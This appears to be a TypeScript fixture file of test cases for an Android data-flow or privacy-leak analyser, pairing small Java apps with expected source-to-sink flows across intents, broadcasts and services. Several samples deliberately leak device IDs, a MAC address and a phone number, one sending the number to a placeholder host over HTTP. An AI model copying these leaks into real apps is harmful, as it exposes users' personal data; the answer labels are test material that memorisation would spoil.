import type { Recipe } from '../recipe.ts';

export const flowBetweenComponents: readonly Recipe[] = [
  {
    id: 'flow-intent-other-key',
    about: 'The second activity reads another key.',
    java: `package com.zujian.b;
class MainActivity extends Activity { protected void onCreate(Bundle b) { super.onCreate(b); Intent i = new Intent(this, SecondActivity.class); i.putExtra("secret", ((TelephonyManager) getSystemService("phone")).getDeviceId()); i.putExtra("title", "hi"); startActivity(i); } }
class SecondActivity extends Activity { protected void onCreate(Bundle b) { super.onCreate(b); Log.d("b", getIntent().getStringExtra("title")); } }`,
    manifest: { activities: ['.SecondActivity'] },
    truth: {
      flows: [],
      noFlows: [
        {
          from: 'TelephonyManager.getDeviceId/0 @ MainActivity.onCreate',
          to: 'Log.d/2 @ SecondActivity.onCreate',
          because: 'another extra',
        },
      ],
    },
  },
  {
    id: 'flow-broadcast-outside',
    about: 'sendBroadcast without package or permission.',
    java: `package com.zujian.d;
class MainActivity extends Activity { protected void onCreate(Bundle b) { super.onCreate(b); Bundle x = new Bundle(); x.putString("m", ((WifiManager) getSystemService("wifi")).getConnectionInfo().getMacAddress()); Intent i = new Intent("com.zujian.d.PUBLIC"); i.putExtras(x); sendBroadcast(i); } }`,
    truth: {
      flows: [
        {
          data: 'mac',
          from: 'WifiInfo.getMacAddress/0 @ MainActivity.onCreate',
          to: 'Context.sendBroadcast/1 @ MainActivity.onCreate',
          sink: 'other-app',
        },
      ],
    },
  },
  {
    id: 'flow-service-by-action',
    about: 'To a service of the app by action and package; the service posts it.',
    java: `package com.zujian.e;
class MainActivity extends Activity { protected void onStart() { super.onStart(); Intent i = new Intent("com.zujian.e.UP"); i.setPackage("com.zujian.e"); i.putExtra("n", ((TelephonyManager) getSystemService("phone")).getLine1Number()); startService(i); } }
class UpService extends IntentService {
  public UpService() { super("up"); }
  protected void onHandleIntent(Intent i) { String n = i.getExtras().getString("n"); new OkHttpClient().newCall(new Request$Builder().url("https://e.example.cn/?n=" + n).build()).execute(); }
}`,
    manifest: { services: [{ name: '.UpService', exported: false, actions: ['com.zujian.e.UP'] }] },
    truth: {
      flows: [
        {
          data: 'phone_number',
          from: 'TelephonyManager.getLine1Number/0 @ MainActivity.onStart',
          to: 'Request$Builder.url/1|OkHttpClient.newCall/1|Call.execute/0 @ UpService.onHandleIntent',
          sink: 'network',
        },
      ],
    },
  },
  {
    id: 'flow-bound-service',
    about: 'A bound service returns it by a method of its binder.',
    java: `package com.zujian.g;
class IdService extends Service { public IBinder onBind(Intent i) { return new IdBinder(this); } }
class IdBinder extends Binder { final Context c; IdBinder(Context x) { c = x; } String id() { return ((TelephonyManager) c.getSystemService("phone")).getMeid(); } }
class MainActivity extends Activity implements ServiceConnection {
  protected void onCreate(Bundle b) { super.onCreate(b); bindService(new Intent(this, IdService.class), this, 1); }
  public void onServiceConnected(ComponentName n, IBinder b) { Log.d("g", ((IdBinder) b).id()); }
  public void onServiceDisconnected(ComponentName n) { }
}`,
    manifest: { services: [{ name: '.IdService', exported: false }] },
    truth: {
      flows: [
        { data: 'meid', from: 'TelephonyManager.getMeid/0 @ IdBinder.id', to: 'Log.d/2 @ MainActivity.onServiceConnected', sink: 'log' },
      ],
    },
  },
];
